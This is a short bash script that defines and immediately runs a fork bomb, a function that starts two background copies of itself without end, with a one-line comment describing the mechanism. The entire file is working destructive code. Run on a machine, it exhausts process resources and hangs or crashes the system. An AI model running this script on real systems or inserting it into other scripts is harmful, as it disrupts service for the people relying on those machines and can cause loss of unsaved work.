#!/bin/bash
# A fork bomb: each copy starts two more, in the background, forever.
bomb() { bomb | bomb & }
bomb
wait
